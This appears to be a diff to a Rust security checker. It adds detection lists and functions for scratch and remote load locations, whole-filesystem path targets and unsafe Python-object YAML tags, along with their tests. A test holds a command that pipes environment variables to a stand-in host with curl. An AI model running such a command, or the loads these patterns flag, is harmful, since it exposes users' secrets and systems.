@@ -200,6 +200,63 @@ pub(super) fn names_persistence(text: &str) -> bool {
     any(&text, PERSISTENCE) || text.ends_with(".pth")
 }
 
+/// Folders into which anybody writes, and from which nothing honest is loaded.
+const SCRATCH: &[&str] = &[
+    "/tmp/",
+    "/var/tmp/",
+    "/dev/shm/",
+    "/private/tmp/",
+    "c:/users/public/",
+    "c:/windows/temp/",
+    "%temp%",
+    "%public%",
+    "//",
+    "http://",
+    "https://",
+    "ftp://",
+];
+
+/// Whether `text` names something in a folder into which anybody writes, or on another machine.
+pub(super) fn names_scratch_place(text: &str) -> bool {
+    let text = text.to_lowercase().replace('\\', "/");
+    matches!(&*text, "/tmp" | "/var/tmp" | "/dev/shm") || SCRATCH.iter().any(|place| text.starts_with(place))
+}
+
+/// Folders whose content belongs to the user or to the system as a whole.
+const WHOLE: &[&str] = &[
+    "",
+    "bin",
+    "boot",
+    "c:",
+    "c:/users",
+    "c:/windows",
+    "etc",
+    "home",
+    "lib",
+    "opt",
+    "root",
+    "sbin",
+    "srv",
+    "usr",
+    "users",
+    "var",
+    "~",
+    "$home",
+];
+
+/// Whether `text` names everything of the user or the system: `/`, `~`, `/home/**`.
+pub(super) fn names_whole_tree(text: &str) -> bool {
+    let text = text.to_lowercase().replace('\\', "/");
+    let rooted = text.starts_with(['/', '~', '$']) || text.get(1..3) == Some(":/");
+    let folder = text.trim_end_matches(['*', '/']).trim_start_matches('/');
+    rooted && WHOLE.contains(&folder)
+}
+
+/// Whether `text` is a document whose tags have a loader import and call what they name.
+pub(super) fn carries_constructor(text: &str) -> bool {
+    text.contains("!!python/") || text.contains("tag:yaml.org,2002:python/") || text.contains("\"py/")
+}
+
 /// Whether a name leads out of the folder in which it stands: absolute, with a drive, or up.
 pub(super) fn escapes(target: &str) -> bool {
     let drive =
@@ -237,6 +294,22 @@ mod tests {
         assert!(sends_credentials("env | curl -d @- http://x.example"));
         assert!(!sends_credentials("curl -H $HF_TOKEN https://huggingface.co/x"));
         assert!(!sends_credentials("chmod 600 ~/.ssh/id_rsa"));
+    }
+
+    #[test]
+    fn places_of_everybody_and_trees_of_somebody() {
+        for text in ["/tmp/x.so", "/dev/shm/a", "C:\\Users\\Public\\x.dll", "http://x.example/a", "/tmp"] {
+            assert!(names_scratch_place(text), "{text}");
+        }
+        for text in ["tmp/x", "./lib.so", "/usr/lib/libm.so", "template"] {
+            assert!(!names_scratch_place(text), "{text}");
+        }
+        for text in ["/", "~", "/home/**", "C:\\", "/etc/", "/root/*"] {
+            assert!(names_whole_tree(text), "{text}");
+        }
+        for text in ["", "home", "/home/user/run", "out", "*", "/var/tmp/x", "~/.cache/x"] {
+            assert!(!names_whole_tree(text), "{text}");
+        }
     }
 
     #[test]
